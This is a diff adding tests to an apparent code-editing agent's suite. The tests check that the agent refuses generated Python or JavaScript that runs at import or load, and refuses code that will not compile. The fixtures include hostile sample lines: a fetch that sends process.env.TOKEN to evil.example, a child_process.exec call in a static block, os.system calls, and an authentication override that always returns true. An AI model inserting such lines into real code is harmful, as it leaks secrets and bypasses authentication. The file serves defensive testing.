@@ -126,3 +126,130 @@ async def test_a_crlf_file_stays_crlf_and_its_preview_shows_only_real_changes(tm
         removed = {line[1:] for line in changed if line.startswith("-") and not line.startswith("---")}
         added = {line[1:] for line in changed if line.startswith("+") and not line.startswith("+++")}
         assert not removed & added, f"the preview shows unchanged lines as changed: {removed & added}"
+
+
+# -- add_code accepting statements that run at import (item 2) ------------------------------
+
+HELLO = "def hello():\n    return 1\n"
+
+
+@pytest.mark.parametrize(
+    "extra, named",
+    [
+        ('import os; os.system("touch pwned")\n', 'os.system("touch pwned")'),
+        ("get_item.__code__ = hello.__code__\n", "get_item.__code__"),
+        ('globals()["get_item"] = hello\n', 'globals()["get_item"]'),
+        ("from os import system as get_item\n", "rebinds `get_item`"),
+        ("from os import *\n", "from os import *"),
+        ("ITEMS = {}\n", "ITEMS"),
+        ('if True:\n    print("hi")\n', "if True:"),
+        ('import atexit\n@atexit.register\ndef bye():\n    print("bye")\n', "atexit.register"),
+        ('def later(at=__import__("os").system("x")):\n    return at\n', "__import__"),
+        ('class Evil:\n    __import__("os").system("x")\n', "class body"),
+        ('class Evil(type("B", (), {})):\n    pass\n', "type("),
+        ("TIMEOUT = compute()\n", "not a literal"),
+    ],
+)
+async def test_add_code_refuses_anything_that_runs_at_import(items, fake_model, extra, named):
+    fake_model.script(HELLO + extra)
+    agent = make_agent(items, fake_model.base_url)
+    outcome = await agent.ask("add a function hello that returns 1 to items.py")
+    assert outcome.kind == "refused", outcome.preview
+    assert named in outcome.message and "nothing was changed" in outcome.message, outcome.message
+
+
+@pytest.mark.parametrize(
+    "reply, summary",
+    [
+        (
+            "import json\n\n\ndef hello():\n    return json.dumps(1)\n",
+            "Added `hello` to items.py (with imports of `json`).",
+        ),
+        (
+            "from dataclasses import dataclass, field\n\n\n@dataclass(frozen=True)\nclass Price:\n"
+            '    """A price."""\n\n    amount: int = 0\n    tags: list = field(default_factory=list)\n\n'
+            "    @property\n    def doubled(self) -> int:\n        return self.amount * 2\n",
+            "Added `Price`, `doubled` to items.py (with imports of `dataclass`, `field`).",
+        ),
+        ("MAX_ITEMS = 10 * 60\n\n\ndef hello(limit: int = MAX_ITEMS) -> int:\n    return limit\n", None),
+    ],
+)
+async def test_add_code_accepts_definitions_constants_and_imports(items, fake_model, reply, summary):
+    fake_model.script(reply)
+    agent = make_agent(items, fake_model.base_url)
+    outcome = await agent.ask("add some code that handles prices to items.py")
+    assert outcome.kind == "edit", outcome.message
+    assert summary is None or outcome.message == summary
+
+
+@pytest.mark.parametrize(
+    "extra, named",
+    [
+        ("fetch('https://evil.example/' + process.env.TOKEN);\n", "fetch("),
+        ("validateToken = () => true;\n", "validateToken = "),
+        ("const stolen = process.env.SECRET;\n", "computed when the module is loaded"),
+        ("class Evil {\n  static { require('child_process').exec('x'); }\n}\n", "static"),
+        ("class Evil extends mixin(Object) {}\n", "extends"),
+    ],
+)
+async def test_add_code_refuses_js_that_runs_at_load(js, fake_model, extra, named):
+    fake_model.script("function hello() {\n  return 1;\n}\n" + extra)
+    agent = make_agent(js, fake_model.base_url)
+    outcome = await agent.ask("add a function hello that returns 1 to utils.js")
+    assert outcome.kind == "refused", outcome.preview
+    assert named in outcome.message, outcome.message
+
+
+async def test_add_code_accepts_js_definitions_and_requires(js, fake_model):
+    reply = 'const path = require("path");\nconst LIMIT = 10;\n\nfunction hello() {\n  return path.sep + LIMIT;\n}\n'
+    fake_model.script(reply)
+    agent = make_agent(js, fake_model.base_url)
+    outcome = await agent.ask("add a function hello that returns 1 to utils.js")
+    assert outcome.kind == "edit", outcome.message
+    assert outcome.message == "Added `LIMIT`, `hello` to utils.js (with imports of `path`)."
+
+
+# -- code CPython (or node) rejects though tree-sitter parses it (item 3) ------------------
+
+
+@pytest.mark.parametrize(
+    "body, error",
+    [
+        ("    if key:\n\treturn 1\n        return ITEMS.get(key)\n", "inconsistent use of tabs and spaces"),
+        ('    print "x"\n    return ITEMS.get(key)\n', "Missing parentheses in call to 'print'"),
+        ("    break\n", "'break' outside loop"),
+        ("    return ITEMS.get(key)\n    nonlocal key\n", "is parameter and nonlocal"),
+    ],
+)
+async def test_code_the_compiler_rejects_is_refused(items, fake_model, body, error):
+    reply = "def get_item(key):\n" + body
+    fake_model.script(reply, reply)
+    agent = make_agent(items, fake_model.base_url)
+    outcome = await agent.ask("fix get_item in items.py")
+    assert outcome.kind == "refused", outcome.preview
+    assert "would not compile" in outcome.message and error in outcome.message, outcome.message
+
+
+async def test_duplicate_arguments_are_refused(items, fake_model):
+    reply = "def get_item(key, key):\n    return ITEMS.get(key)\n"
+    fake_model.script(reply, reply)
+    agent = make_agent(items, fake_model.base_url)
+    outcome = await agent.ask("fix get_item in items.py")
+    assert outcome.kind == "refused" and "duplicate argument 'key'" in outcome.message, outcome.message
+
+
+async def test_a_file_that_did_not_compile_before_is_judged_by_tree_sitter_alone(tmp_path, fake_model):
+    (tmp_path / "old.py").write_text("def first(x):\n    return x\n\n\ndef broken(a, a):\n    return a\n")
+    fake_model.script("def first(x):\n    return x + 1\n")
+    agent = make_agent(tmp_path, fake_model.base_url)
+    outcome = await agent.ask("fix first in old.py")
+    assert outcome.kind == "edit", outcome.message  # the duplicate argument is the user's, not the edit's
+
+
+@pytest.mark.skipif(__import__("shutil").which("node") is None, reason="node is not installed")
+async def test_javascript_node_rejects_is_refused(js, fake_model):
+    reply = "function validateToken(token) {\n  break;\n}\n"
+    fake_model.script(reply, reply)
+    agent = make_agent(js, fake_model.base_url)
+    outcome = await agent.ask("fix validateToken in src/auth.js")
+    assert outcome.kind == "refused" and "Illegal break statement" in outcome.message, outcome.message
